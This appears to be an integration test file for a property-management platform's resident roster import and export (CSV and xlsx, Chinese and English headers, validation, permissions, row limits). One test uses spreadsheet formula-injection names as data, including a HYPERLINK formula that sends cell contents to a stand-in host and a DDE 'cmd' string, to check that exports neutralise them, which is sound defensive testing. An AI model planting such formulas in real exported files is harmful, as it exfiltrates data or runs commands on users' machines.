/**
 * The roster import and export (incidents contract `ImportResidents`; `exportResidents`,
 * `exportUnits`): .xlsx and .csv (UTF-8, UTF-8 with a byte-order mark, GBK), Chinese and English
 * headers, every bad row listed with nothing imported (both formats), dry runs, the same phone
 * twice, the imported move-ins' NEW_RESIDENT callbacks, roles, scoping, the export's round trip,
 * names that cannot run as formulas in the export, and the row limit stopping the reading. Real: the whole platform over HTTP on
 * PostgreSQL (PGlite, or PostgreSQL 15 in CI). Faked: nothing; the files are made in the test
 * with exceljs and iconv-lite, as Excel would save them. Each test imports into a building of
 * its own, so no test sees another's rows.
 */
import ExcelJS from 'exceljs';
import { estateHourAfter } from '../../schema/callbacks/callback-timing';
import { estateDate } from '../../schema/residents/local-date';
import { coreOp, newSite, newStaff, run } from '../support/core-operations';
import { call, CREATE_UNIT, ok, REGISTER_RESIDENT, uniquePhone } from '../support/service-desk-archive';
import {
  csvBytes,
  EXPORT_RESIDENTS,
  EXPORT_UNITS,
  IMPORT_RESIDENTS,
  xlsxBytes,
  xlsxGrid,
  xlsxOfManyRows,
  type Grid,
  type ImportAnswer,
} from '../support/roster-files';
import { startTestPlatform, type TestPlatform } from '../support/test-platform';

const EN = ['building', 'unit', 'floor', 'name', 'phone', 'relation', 'since'];
const ZH = ['楼栋', '房号', '楼层', '姓名', '手机', '关系', '入住日期'];

describe('roster import and export', () => {
  let platform: TestPlatform;
  let url: string;
  let manager: string;
  /** a site of this file, its supervisor and relations officer (scoped to it) */
  let site: { siteId: string; code: string; supervisor: string; relations: string };
  let serial = 0;

  beforeAll(async () => {
    platform = await startTestPlatform();
    url = platform.graphqlUrl;
    manager = await platform.login('manager');
    const code = `RI${Date.now().toString(36)}`.toUpperCase().slice(0, 12);
    const { siteId } = await newSite(url, manager, code);
    const supervisor = await newStaff(url, manager, { role: 'SUPERVISOR', siteIds: [siteId] });
    const relations = await newStaff(url, manager, { role: 'RELATIONS_OFFICER', siteIds: [siteId] });
    site = { siteId, code, supervisor: supervisor.token, relations: relations.token };
  });
  afterAll(() => platform?.stop());

  const sql = <T>(query: string, params: unknown[] = []) => platform.orm.em.fork().execute<T[]>(query, params);

  /** A building of its own on the file's site (as the manager); returns its code and id. */
  const newBuilding = async (siteId = site.siteId) => {
    const code = `T${++serial}`;
    const created = await run<{ createBuilding: { id: string } }>(
      url,
      coreOp('CreateBuilding'),
      { input: { siteId, code, name: `building ${code}` } },
      manager,
    );
    return { code, id: created.createBuilding.id };
  };
  const occupanciesIn = async (buildingId: string) =>
    Number(
      (
        await sql<{ n: string }>(
          'select count(*) as n from occupancy o join unit u on u.id = o.unit_id where u.building_id = ?',
          [buildingId],
        )
      )[0].n,
    );
  const importFile = (filename: string, bytes: Buffer, dryRun = false, token = site.supervisor) =>
    call<ImportAnswer>(
      url,
      IMPORT_RESIDENTS,
      { input: { filename, contentBase64: bytes.toString('base64'), dryRun } },
      token,
    );
  const imported = async (filename: string, bytes: Buffer, dryRun = false, token = site.supervisor) => {
    const answer = await importFile(filename, bytes, dryRun, token);
    expect(answer.errors).toBeUndefined();
    return answer.data!.importResidents;
  };
  /** the archive's rows of a building: unit, floor, name, phone, relation, since */
  const archiveOf = (buildingId: string) =>
    sql<{ unit: string; floor: number; name: string; phone: string; relation: string; since: string }>(
      `select u.code as unit, u.floor, r.name, r.phone, o.relation, to_char(o.since, 'YYYY-MM-DD') as since
         from occupancy o join unit u on u.id = o.unit_id join resident r on r.id = o.resident_id
        where u.building_id = ? and o.until is null order by u.code, r.phone`,
      [buildingId],
    );

  /** Three residents of a building (two in a unit), with headers `header`. */
  const roster = (building: string, header: string[], phones = [uniquePhone(), uniquePhone(), uniquePhone()]): Grid => [
    header,
    [building, '1201', 12, '张伟', phones[0], '业主', '2020-05-01'],
    [building, '1201', 12, '李娜', phones[1], 'FAMILY', '2020-05-01'],
    [
      building,
      '0302',
      3,
      'Wang Fang',
      `+86 ${phones[2].slice(0, 3)}-${phones[2].slice(3, 7)}-${phones[2].slice(7)}`,
      'tenant',
      '2023/7/9',
    ],
  ];
  const expectRoster = async (buildingId: string, phones: string[]) => {
    expect(await archiveOf(buildingId)).toEqual(
      [
        { unit: '0302', floor: 3, name: 'Wang Fang', phone: phones[2], relation: 'TENANT', since: '2023-07-09' },
        { unit: '1201', floor: 12, name: '张伟', phone: phones[0], relation: 'OWNER', since: '2020-05-01' },
        { unit: '1201', floor: 12, name: '李娜', phone: phones[1], relation: 'FAMILY', since: '2020-05-01' },
      ].sort((a, b) => a.unit.localeCompare(b.unit) || a.phone.localeCompare(b.phone)),
    );
  };

  it.each([
    ['English headers, UTF-8', EN, 'utf8'],
    ['Chinese headers, UTF-8 with a byte-order mark', ZH, 'utf8-bom'],
    ['Chinese headers, GBK', ZH, 'gbk'],
    ['English headers, GBK', EN, 'gbk'],
  ] as const)('a CSV file (%s) imports every row, creating the units', async (_name, header, encoding) => {
    const building = await newBuilding();
    const phones = [uniquePhone(), uniquePhone(), uniquePhone()];
    const bytes = csvBytes(roster(building.code, [...header], phones), encoding);
    if (encoding === 'gbk') expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow();
    expect(await imported('住户.csv', bytes)).toEqual({ dryRun: false, rows: 3, imported: 3, errors: [] });
    await expectRoster(building.id, phones);
  });

  it('an .xlsx file with Chinese headers, phone numbers in number cells and Excel date cells imports', async () => {
    const building = await newBuilding();
    const phones = [uniquePhone(), uniquePhone(), uniquePhone()];
    const grid = roster(building.code, ['楼栋号', '房号', '楼层', '业主姓名', '联系电话', '身份', '入住时间'], phones);
    grid[1][4] = Number(phones[0]); // typed into a number cell
    grid[1][6] = new Date(Date.UTC(2020, 4, 1)); // a date cell
    grid[2][6] = 43952; // a date cell saved without its format: Excel's serial of 2020-05-01
    expect(await imported('roster.xlsx', await xlsxBytes(grid))).toEqual({
      dryRun: false,
      rows: 3,
      imported: 3,
      errors: [],
    });
    await expectRoster(building.id, phones);
  });

  /** A file with a bad row of every kind, and good rows between them. */
  const badRoster = async (header: string[]) => {
    const building = await newBuilding();
    const taken = uniquePhone();
    const unitId = (
      await ok<{ createUnit: { id: string } }>(
        url,
        CREATE_UNIT,
        { input: { buildingId: building.id, code: '0101', floor: 1 } },
        manager,
      )
    ).createUnit.id;
    await ok(url, REGISTER_RESIDENT, { input: { name: '已入住', phone: taken, unitId, relation: 'OWNER' } }, manager);
    const twice = uniquePhone();
    const grid: Grid = [
      header,
      [building.code, '0201', 2, '好人', uniquePhone(), '业主', '2021-01-01'], // row 2: good
      [building.code, '0202', 2, '', '12345', '房东', '2021-13-01'], // row 3: name, phone, relation, since
      ['NOPE', '0203', 2, '无楼', uniquePhone(), '业主', ''], // row 4: building
      [building.code, '0999', null, '无房', uniquePhone(), '租户', ''], // row 5: unit without floor
      [building.code, '0101', 1, '重复', taken, '业主', ''], // row 6: already lives there
      [building.code, '0301', 3, '两次', twice, '家属', ''], // row 7: good
      [building.code, '0301', 3, '两次', twice, '家属', ''], // row 8: repeats row 7
      [building.code, '0101', 9, '错层', uniquePhone(), '租户', ''], // row 9: floor contradicts
    ];
    const c = (i: number) => header[i];
    const errors = [
      { row: 3, column: c(3), message: 'is empty' },
      { row: 3, column: c(4), message: expect.stringMatching(/^"12345": a phone number has at least 7 digits/) },
      { row: 3, column: c(5), message: expect.stringContaining('"房东" is not one of OWNER, TENANT, FAMILY') },
      { row: 3, column: c(6), message: '"2021-13-01" is not a date (YYYY-MM-DD)' },
      { row: 4, column: c(0), message: 'no building NOPE among your sites' },
      { row: 5, column: c(1), message: `building ${building.code} has no unit 0999; give its floor to create it` },
      {
        row: 6,
        column: c(4),
        message: `this phone's resident already lives in unit 0101 of building ${building.code}`,
      },
      { row: 8, column: c(4), message: `repeats row 7: the same phone in unit 0301 of building ${building.code}` },
      { row: 9, column: c(2), message: `unit 0101 of building ${building.code}: it is on floor 1, not 9` },
    ];
    return { building, grid, errors };
  };

  it.each([
    ['CSV (GBK), Chinese headers', 'csv', ZH],
    ['xlsx, English headers', 'xlsx', EN],
  ] as const)(
    'a %s file with bad rows lists every one (row, column, why) and imports nothing',
    async (_n, kind, header) => {
      const { building, grid, errors } = await badRoster([...header]);
      const bytes = kind === 'csv' ? csvBytes(grid, 'gbk') : await xlsxBytes(grid);
      const before = await occupanciesIn(building.id);
      expect(before).toBe(1); // the registered resident: the count counts
      for (const dryRun of [true, false]) {
        const answer = await imported(`bad.${kind}`, bytes, dryRun);
        expect(answer).toEqual({ dryRun, rows: 8, imported: 0, errors });
        expect(await occupanciesIn(building.id)).toBe(before);
        expect(await sql('select 1 from unit where building_id = ? and code = ?', [building.id, '0201'])).toEqual([]);
      }
    },
  );

  it('a file without a required column is refused at its header row', async () => {
    const building = await newBuilding();
    const answer = await imported(
      'x.csv',
      csvBytes([
        ['楼栋', '房号', '姓名'],
        [building.code, '1', '某'],
      ]),
    );
    expect(answer.imported).toBe(0);
    expect(answer.errors.map((e) => e.message)).toEqual([
      expect.stringContaining('no phone column'),
      expect.stringContaining('no relation column'),
    ]);
    expect(answer.errors.every((e) => e.row === 1)).toBe(true);
  });

  it('a dry run of a good file imports nothing; the real run then imports it all', async () => {
    const building = await newBuilding();
    const phones = [uniquePhone(), uniquePhone(), uniquePhone()];
    const bytes = await xlsxBytes(roster(building.code, EN, phones));
    expect(await imported('r.xlsx', bytes, true)).toEqual({ dryRun: true, rows: 3, imported: 0, errors: [] });
    expect(await occupanciesIn(building.id)).toBe(0);
    expect(await sql('select 1 from unit where building_id = ?', [building.id])).toEqual([]);
    expect(await imported('r.xlsx', bytes, false)).toMatchObject({ imported: 3, errors: [] });
    expect(await occupanciesIn(building.id)).toBe(3);
    // one audit row for the import, with its figures
    const [audit] = await sql<{ after: Record<string, unknown> }>(
      `select after from audit_entry where action = 'resident.import' and after->>'filename' = 'r.xlsx'`,
    );
    expect(audit.after).toMatchObject({ rows: 3, imported: 3, unitsCreated: 2, residentsCreated: 3 });
    // importing the same file again: every row is a resident already living there
    const again = await imported('r.xlsx', bytes, false);
    expect(again.imported).toBe(0);
    expect(again.errors.map((e) => e.row)).toEqual([2, 3, 4]);
    expect(await occupanciesIn(building.id)).toBe(3);
  });

  // the NEW_RESIDENT rule (schema/callbacks/callback-move-ins.ts): a recent or future `since`
  // only, due a week after it (or the next day at 10:00 when that has passed); none for a dry run
  it('imported move-ins get their NEW_RESIDENT callback by the desk’s rule: recent or future since only, none on a dry run', async () => {
    const building = await newBuilding();
    const day = (offset: number) => estateDate(new Date(Date.now() + offset * 86_400_000));
    const phones = { recent: uniquePhone(), old: uniquePhone(), undated: uniquePhone(), future: uniquePhone() };
    const bytes = csvBytes(
      [
        EN,
        [building.code, '0101', 1, 'Recent', phones.recent, 'tenant', day(-3)],
        [building.code, '0102', 1, 'Old', phones.old, 'owner', '2020-05-01'],
        [building.code, '0103', 1, 'Undated', phones.undated, 'owner', ''],
        [building.code, '0104', 1, 'Future', phones.future, 'tenant', day(10)],
      ],
      'utf8',
    );
    const callbacks = () =>
      sql<{ phone: string; reason: string; status: string; due_at: string | Date; site_id: string }>(
        `select r.phone, c.reason, c.status, c.due_at, c.site_id from callback c join resident r on r.id = c.resident_id
          where r.phone in (?, ?, ?, ?) order by c.due_at`,
        Object.values(phones),
      );
    expect(await imported('move-ins.csv', bytes, true)).toMatchObject({ dryRun: true, imported: 0, errors: [] });
    expect(await callbacks()).toEqual([]);

    expect(await imported('move-ins.csv', bytes)).toMatchObject({ imported: 4, errors: [] });
    const rows = await callbacks();
    expect(rows.map((r) => [r.phone, r.reason, r.status, r.site_id])).toEqual([
      [phones.recent, 'NEW_RESIDENT', 'DUE', site.siteId],
      [phones.future, 'NEW_RESIDENT', 'DUE', site.siteId],
    ]);
    // a week after `since`, at 10:00 Asia/Shanghai
    expect(rows.map((r) => new Date(r.due_at).getTime())).toEqual([
      estateHourAfter(new Date(), 4, 10).getTime(),
      estateHourAfter(new Date(), 17, 10).getTime(),
    ]);
    const [audit] = await sql<{ after: Record<string, unknown> }>(
      `select after from audit_entry where action = 'resident.import' and after->>'filename' = 'move-ins.csv'`,
    );
    expect(audit.after).toMatchObject({ imported: 4, callbacksScheduled: 2 });
  });

  it('the same phone twice is one resident with two occupancies; a known phone keeps its archived name', async () => {
    const building = await newBuilding();
    const phone = uniquePhone();
    const known = uniquePhone();
    const other = await newBuilding();
    const unitId = (
      await ok<{ createUnit: { id: string } }>(
        url,
        CREATE_UNIT,
        { input: { buildingId: other.id, code: '0101', floor: 1 } },
        manager,
      )
    ).createUnit.id;
    await ok(url, REGISTER_RESIDENT, { input: { name: '原名', phone: known, unitId, relation: 'OWNER' } }, manager);
    const grid: Grid = [
      EN,
      [building.code, '0101', 1, '赵六', phone, 'OWNER', '2022-01-01'],
      [building.code, '0102', 1, '赵六 (second flat)', phone, 'OWNER', '2022-02-01'],
      [building.code, '0103', 1, '新名', known, 'TENANT', ''],
    ];
    expect(await imported('twice.csv', csvBytes(grid))).toMatchObject({ imported: 3, errors: [] });
    const rows = await sql<{ phone: string; name: string; n: string }>(
      'select r.phone, r.name, count(o.id) as n from resident r join occupancy o on o.resident_id = r.id where r.phone in (?, ?) group by r.id order by r.phone',
      [phone, known].sort(),
    );
    expect(rows).toEqual(
      [
        { phone, name: '赵六', n: '2' },
        { phone: known, name: '原名', n: '2' },
      ].sort((a, b) => a.phone.localeCompare(b.phone)),
    );
  });

  it('archive keepers import; other roles are FORBIDDEN', async () => {
    const building = await newBuilding();
    const bytes = csvBytes(roster(building.code, EN));
    expect((await imported('r.csv', bytes, true, site.relations)).errors).toEqual([]);
    expect((await imported('r.csv', bytes, true, manager)).errors).toEqual([]);
    for (const username of ['affairs', 'hotline-manager', 'operator', 'technician']) {
      const answer = await importFile('r.csv', bytes, false, await platform.login(username));
      expect(answer.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    }
    expect(await occupanciesIn(building.id)).toBe(0);
  });

  it('a building of another site is a bad row; a building code on two sites needs the site column', async () => {
    const mine = await newBuilding();
    const elsewhere = await newSite(url, manager, `RX${Date.now().toString(36)}`.toUpperCase().slice(0, 12));
    const theirs = await newBuilding(elsewhere.siteId);
    const sameCode = await run<{ createBuilding: { id: string } }>(
      url,
      coreOp('CreateBuilding'),
      { input: { siteId: elsewhere.siteId, code: mine.code, name: 'same code' } },
      manager,
    );
    expect(sameCode.createBuilding.id).toBeTruthy();
    const grid: Grid = [EN, [theirs.code, '0101', 1, '越界', uniquePhone(), 'OWNER', '']];
    const scoped = await imported('x.csv', csvBytes(grid));
    expect(scoped.errors).toEqual([
      { row: 2, column: 'building', message: `no building ${theirs.code} among your sites` },
    ]);
    // the manager sees both sites: a code both have is ambiguous without a site column
    const ambiguous: Grid = [EN, [mine.code, '0101', 1, '歧义', uniquePhone(), 'OWNER', '']];
    const answer = await imported('y.csv', csvBytes(ambiguous), true, manager);
    expect(answer.errors[0].message).toMatch(/exists on several sites .*add a site column/);
    const withSite: Grid = [
      ['小区', ...ZH],
      [site.code, ...ambiguous[1]],
    ];
    expect(await imported('z.csv', csvBytes(withSite), false, manager)).toMatchObject({ imported: 1, errors: [] });
    expect(await occupanciesIn(mine.id)).toBe(1);
  });

  it('refuses a file over the size or row limit (BAD_USER_INPUT)', async () => {
    const tooLarge = await call(
      url,
      IMPORT_RESIDENTS,
      {
        input: { filename: 'big.csv', contentBase64: 'A'.repeat(10 * 1024 * 1024 + 4), dryRun: true },
      },
      manager,
    );
    expect(tooLarge.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    // only archive keepers may send a body that large, and only in variables (gateway/http/graphql-gate.ts)
    const operator = await call(
      url,
      IMPORT_RESIDENTS,
      {
        input: { filename: 'big.csv', contentBase64: 'A'.repeat(1024 * 1024), dryRun: true },
      },
      await platform.login('operator'),
    );
    expect(operator.status).toBe(413);
    expect(operator.errors?.[0]?.extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
    const bigDocument = await call(
      url,
      `${IMPORT_RESIDENTS}\n#${'x'.repeat(300_000)}`,
      {
        input: { filename: 'a.csv', contentBase64: '', dryRun: true },
      },
      site.supervisor,
    );
    expect(bigDocument.status).toBe(413);
    const rows = Array.from({ length: 50_001 }, (_, i) => `B,${i},1,n,1380000${i},OWNER,`);
    const tooMany = await importFile('many.csv', Buffer.from([EN.join(','), ...rows].join('\n')), true);
    expect(tooMany.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(tooMany.errors?.[0]?.message).toMatch(/more than 50000 rows; an import takes at most 50000/);
  });

  it('an .xlsx over the row limit is refused as it is read: 51,000 rows, and 300,000 rows in bounded time', async () => {
    // figures for the report: the file sizes and the time the answer took (the bound is generous:
    // loading the whole 300,000-row workbook, as the reader did before, takes far longer)
    const over = await xlsxOfManyRows(EN, 51_000);
    const refused = await importFile('over.xlsx', over, true);
    expect(refused.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(refused.errors?.[0]?.message).toBe('over.xlsx has more than 50000 rows; an import takes at most 50000');
    const huge = await xlsxOfManyRows(EN, 300_000);
    expect(huge.toString('base64').length).toBeLessThan(10 * 1024 * 1024); // under the size limit
    const started = Date.now();
    const answer = await importFile('huge.xlsx', huge, true);
    const ms = Date.now() - started;
    console.log(`row limit: 51,000 rows ${over.length} bytes; 300,000 rows ${huge.length} bytes refused in ${ms} ms`);
    expect(answer.errors?.[0]?.message).toBe('huge.xlsx has more than 50000 rows; an import takes at most 50000');
    expect(ms).toBeLessThan(20_000);
    // a CSV stops the same way
    const csv = Buffer.from([EN.join(','), ...Array.from({ length: 300_000 }, (_, i) => `${i},x`)].join('\n'));
    const csvAnswer = await importFile('huge.csv', csv, true);
    expect(csvAnswer.errors?.[0]?.message).toBe('huge.csv has more than 50000 rows; an import takes at most 50000');
  });

  it('an .xlsx with a title row, rich text, a formula with its result and a second worksheet imports its first worksheet', async () => {
    const building = await newBuilding();
    const phones = [uniquePhone(), uniquePhone()];
    const workbook = new ExcelJS.Workbook();
    const first = workbook.addWorksheet('住户');
    first.addRow(['XX小区住户名单']);
    first.addRow([]);
    first.addRow(ZH);
    first.addRow([
      building.code,
      '0101',
      1,
      { richText: [{ text: '张', font: { bold: true } }, { text: '伟' }] },
      Number(phones[0]),
      '业主',
      new Date(Date.UTC(2022, 2, 3)),
    ]);
    first.addRow([
      building.code,
      { formula: '"01"&"02"', result: '0102' },
      1,
      '李娜',
      phones[1],
      { formula: 'CONCAT("租","户")', result: '租户' },
      '',
    ]);
    const second = workbook.addWorksheet('other');
    second.addRows([EN, [building.code, '0999', 9, 'nobody', uniquePhone(), 'OWNER', '']]);
    const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
    expect(await imported('titled.xlsx', bytes)).toEqual({ dryRun: false, rows: 2, imported: 2, errors: [] });
    expect(
      (await archiveOf(building.id)).map(({ unit, name, phone, relation, since }) => [
        unit,
        name,
        phone,
        relation,
        since,
      ]),
    ).toEqual([
      ['0101', '张伟', phones[0], 'OWNER', '2022-03-03'],
      ['0102', '李娜', phones[1], 'TENANT', estateDate(new Date())],
    ]);
  });

  it('an export (CSV and xlsx, Chinese and English headers) re-imports to the same archive', async () => {
    const building = await newBuilding();
    const phones = [uniquePhone(), uniquePhone(), uniquePhone()];
    await imported('r.csv', csvBytes(roster(building.code, ZH, phones)));
    const exportOf = async (format: 'CSV' | 'XLSX', headers: 'ZH' | 'EN', token = site.supervisor) =>
      (
        await ok<{ exportResidents: { filename: string; contentBase64: string; rows: number } }>(
          url,
          EXPORT_RESIDENTS,
          { format, headers },
          token,
        )
      ).exportResidents;
    const csv = await exportOf('CSV', 'ZH');
    expect(csv.filename).toMatch(/^residents-\d{4}-\d{2}-\d{2}\.csv$/);
    const text = Buffer.from(csv.contentBase64, 'base64');
    expect([...text.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = text.toString('utf8').slice(1).trim().split('\r\n');
    expect(lines[0]).toBe('小区,楼栋,房号,楼层,姓名,手机,关系,入住日期');
    expect(lines).toContain(`${site.code},${building.code},1201,12,张伟,${phones[0]},业主,2020-05-01`);
    const xlsx = await exportOf('XLSX', 'EN');
    expect(xlsx.rows).toBe(csv.rows);
    const grid = await xlsxGrid(Buffer.from(xlsx.contentBase64, 'base64'));
    expect(grid[0]).toEqual(['site', 'building', 'unit', 'floor', 'name', 'phone', 'relation', 'since']);
    expect(grid).toContainEqual([site.code, building.code, '1201', '12', '张伟', phones[0], 'OWNER', '2020-05-01']);

    // everyone of the site moves out (ended occupancies stay as history); each export imports again
    const before = await archiveOf(building.id);
    expect(before).toHaveLength(3);
    for (const [file, bytes] of [
      [csv.filename, Buffer.from(csv.contentBase64, 'base64')],
      [xlsx.filename, Buffer.from(xlsx.contentBase64, 'base64')],
    ] as const) {
      await sql(
        `update occupancy set until = current_date where until is null and unit_id in
           (select u.id from unit u join building b on b.id = u.building_id where b.site_id = ?)`,
        [site.siteId],
      );
      expect(await archiveOf(building.id)).toEqual([]);
      expect(await imported(file, bytes)).toMatchObject({ rows: csv.rows, imported: csv.rows, errors: [] });
      expect(await archiveOf(building.id)).toEqual(before);
    }
    // a role that sees phones masked gets them masked in the file too
    const affairs = await exportOf('CSV', 'EN', await platform.login('affairs'));
    expect(Buffer.from(affairs.contentBase64, 'base64').toString('utf8')).not.toContain(phones[0]);
  });

  it('an export does not let a name run as a formula: CSV fields are guarded with a quote, xlsx cells are text, and both re-import as they were', async () => {
    const building = await newBuilding();
    const phones = [uniquePhone(), uniquePhone(), uniquePhone(), uniquePhone()];
    const names = ['=HYPERLINK("http://x/?"&B2,"张三")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1 test', '-2 test'];
    const grid: Grid = [
      EN,
      ...names.map((name, i) => [building.code, '0101', 1, name, phones[i], 'OWNER', '2021-01-01']),
    ];
    expect(await imported('f.xlsx', await xlsxBytes(grid))).toMatchObject({ imported: 4, errors: [] });
    const exportOf = async (format: 'CSV' | 'XLSX') =>
      (
        await ok<{ exportResidents: { filename: string; contentBase64: string; rows: number } }>(
          url,
          EXPORT_RESIDENTS,
          { format, headers: 'EN' },
          site.supervisor,
        )
      ).exportResidents;
    const csv = await exportOf('CSV');
    const lines = Buffer.from(csv.contentBase64, 'base64').toString('utf8').slice(1).trim().split('\r\n');
    const fieldsOf = (phone: string) => lines.find((l) => l.includes(phone))!;
    expect(fieldsOf(phones[0])).toContain(`,"'=HYPERLINK(""http://x/?""&B2,""张三"")",`);
    expect(fieldsOf(phones[1])).toContain(`,"'@SUM(1+1)*cmd|' /C calc'!A0",`);
    expect(fieldsOf(phones[2])).toContain(`,"'+1 test",`);
    expect(fieldsOf(phones[3])).toContain(`,"'-2 test",`);
    // no field of the file starts a formula (a field is what follows a comma or a line start, quotes aside)
    for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);

    // xlsx: the names are string cells, not formulas, read back by exceljs
    const xlsx = await exportOf('XLSX');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(xlsx.contentBase64, 'base64') as unknown as ArrayBuffer);
    const nameCells: ExcelJS.Cell[] = [];
    workbook.worksheets[0].eachRow((row) => {
      if (names.includes(String(row.getCell(5).value))) nameCells.push(row.getCell(5));
    });
    expect(nameCells.map((c) => c.value).sort()).toEqual([...names].sort());
    for (const c of nameCells) {
      expect(c.type).toBe(ExcelJS.ValueType.String); // a formula cell would read as ValueType.Formula
      expect(c.formula).toBeUndefined();
    }

    // both files import again to the same names
    const before = await archiveOf(building.id);
    expect(before.map((r) => r.name).sort()).toEqual([...names].sort());
    for (const [file, content] of [
      [csv.filename, csv.contentBase64],
      [xlsx.filename, xlsx.contentBase64],
    ] as const) {
      await sql(
        `update occupancy set until = current_date where until is null and unit_id in
           (select u.id from unit u join building b on b.id = u.building_id where b.site_id = ?)`,
        [site.siteId],
      );
      expect(await imported(file, Buffer.from(content, 'base64'))).toMatchObject({ imported: csv.rows, errors: [] });
      expect(await archiveOf(building.id)).toEqual(before);
    }
  });

  it('exports the unit list, and technicians may not export', async () => {
    const building = await newBuilding();
    await imported('r.csv', csvBytes(roster(building.code, EN)));
    const units = (
      await ok<{ exportUnits: { contentBase64: string; rows: number } }>(
        url,
        EXPORT_UNITS,
        { format: 'CSV', headers: 'EN' },
        site.supervisor,
      )
    ).exportUnits;
    const lines = Buffer.from(units.contentBase64, 'base64').toString('utf8').slice(1).trim().split('\r\n');
    expect(lines[0]).toBe('site,building,unit,floor,areaM2,use');
    expect(lines).toContain(`${site.code},${building.code},0302,3,,RESIDENTIAL`);
    const denied = await call(url, EXPORT_UNITS, { format: 'XLSX' }, await platform.login('technician'));
    expect(denied.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
  });
});
